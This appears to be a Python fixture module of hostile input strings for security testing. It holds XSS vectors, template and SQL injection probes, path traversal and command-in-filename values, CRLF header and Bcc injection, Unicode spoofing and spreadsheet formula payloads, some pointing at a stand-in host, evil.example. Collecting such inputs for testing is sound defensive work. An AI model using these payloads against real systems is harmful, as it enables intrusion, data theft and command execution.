"""Hostile text: what people have tried on web pages, headers, files, queries, spreadsheets and readers' eyes."""

from __future__ import annotations

from typing import Final

PRODUCT: Final = "9072599"
"""What the templates in `TEMPLATES` come to: it stands nowhere unless one of them was run."""

HTML: Final = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x`onerror=alert(1)`">', "<img/src=x/onerror=alert(1)>", "<img src=1 href=1 onerror='alert(1)'>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{background:url(//evil.example)}</style>",
    "<div style=\"background:url('javascript:alert(1)')\">", "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<%= alert(1) %>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u0000script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip
"""What begins an element."""

ATTRIBUTES: Final = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", "` onmouseover=alert(1) `", " onmouseover=alert(1) ",
    "/onmouseover=alert(1)", '"/><svg onload=alert(1)>', "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>", "</option></select><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</code></pre><script>alert(1)</script>", "</mark><script>alert(1)</script>",
    '" style="position:fixed;inset:0" x="', '" formaction="javascript:alert(1)" x="', '"\nonclick="alert(1)', "&quot; onclick=alert(1) x=&quot;",
    "'-alert(1)-'", '";alert(1);//', "\\\";alert(1);//", "${alert(1)}", "`;alert(1);`", "</td></tr></table><script>alert(1)</script>",
    '" hx-on:click="alert(1)" x="', '" data-hx-get="//evil.example" x="',
]  # fmt: skip
"""What ends an attribute or an element that holds text."""

LINKS: Final = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript://lib.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "view-source:javascript:alert(1)", "file:///etc/passwd",
    "blob:https://evil.example/1", "filesystem:https://evil.example/x", "jar:javascript:alert(1)!/", "feed:javascript:alert(1)",
    "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example", "https:///evil.example",
    "https://lib.example@evil.example/", "https://evil.example#lib.example", "/%2f/evil.example", "/\t/evil.example", ".evil.example",
    "http://[::1", "http://evil.example:99999999/", "https://xn--80ak6aa92e.example/", "\u202ejavascript:alert(1)",
]  # fmt: skip
"""Addresses that run, lead elsewhere or cannot be parsed."""

TEMPLATES: Final = [
    "{{1787*5077}}", "${1787*5077}", "#{1787*5077}", "<%= 1787*5077 %>", "{% print(1787*5077) %}", "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ request.application.__globals__ }}", "{%raw%}{{1787*5077}}{%endraw%}",
    "{0.__class__.__init__.__globals__}", "%(secret_key)s", "%s%s%s%n", "{}", "{0}", "{name!r:>9999999}", "@(1787*5077)", "*{1787*5077}",
]  # fmt: skip
QUERIES: Final = [
    "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1; DROP TABLE record;--", "1' UNION SELECT name FROM sqlite_master--", "') OR ('a'='a",
    "1 AND SLEEP(5)", "1; SELECT pg_sleep(5)--", "%' AND 1=0 UNION ALL SELECT 1--", "\\'; DROP TABLE version;--", "0x31", "1e309", "NaN",
    "-1", "9" * 40, "1_000", "\u0661\u0662", "*:*", "title:(((((((((", 'a" AND ("', "a~b~c~", "[* TO", "(" * 300, "NOT NOT NOT", "a OR", "//*[1]",
    "*)(uid=*))(|(uid=*", '{"$gt": ""}', "cql.serverChoice==", "@attr 1=4 @and a", "../%00", "a*?*?*?*?*?*?*?*?b",
]  # fmt: skip
FILES: Final = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc",
    "file.csv\x00.exe", "con", "nul.csv", "aux.mrc", "a:b.mrc", "~/.ssh/id_rsa", "-rf", "$(id).csv", "`id`.csv", "|id", ";id", "C:\\autoexec.bat",
    ".", "..", "/", "//", "a" * 300 + ".mrc", "<b>.mrc", '"; filename="x.html', "x.csv\r\nContent-Type: text/html", "\u202excod.exe",
]  # fmt: skip
LINES: Final = [
    "x\r\nSet-Cookie: owned=1", "x\nSet-Cookie: owned=1", "x\rSet-Cookie: owned=1", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:%20owned=1",
    "x\u2028Set-Cookie: owned=1", "\u560d\u560aSet-Cookie: owned=1", "x\x0b\x0cSet-Cookie: owned=1", "a@b.vn\r\nBcc: evil@evil.example", "\r\n",
]  # fmt: skip
SIGNS: Final = [
    "\u202egnp.exe\u202c", "\u2066ab\u2069\u2067cd\u2069", "\u200f\u200e", "\u200b\u200c\u200d\ufeff", "a\u0300" * 20 + "\u0301" * 60,
    "\ufffe\uffff", "\U0010ffff", "\x00", "a\x00b", "\x1b[31m\x07\x08", "\x1d\x1e\x1f", "\x85\x9b", "\u0130\u0131\u017f\u212a", "\ufdfa" * 40,
    "\U000e0041\U000e0042", "ﬁ①²Ⅷ", "аdmin", "Z\u0337\u0322\u0321" * 20, "\U0001f469\u200d\U0001f469\u200d\U0001f467", "%", "%zz", "%ff%fe",
]  # fmt: skip
LONG: Final = ["A" * 12_000, "<b>" * 2_000, "Hồ Ba Bể " * 3_000, "a " * 2_000, "{{" * 2_000, "\u0323" * 3_000]
FORMULAS: Final = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://evil.example","x")', "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(1))", ";=1+1",
]  # fmt: skip

PAYLOADS: Final = [*HTML, *ATTRIBUTES, *LINKS, *TEMPLATES, *QUERIES, *FILES, *LINES, *SIGNS, *LONG, *FORMULAS]
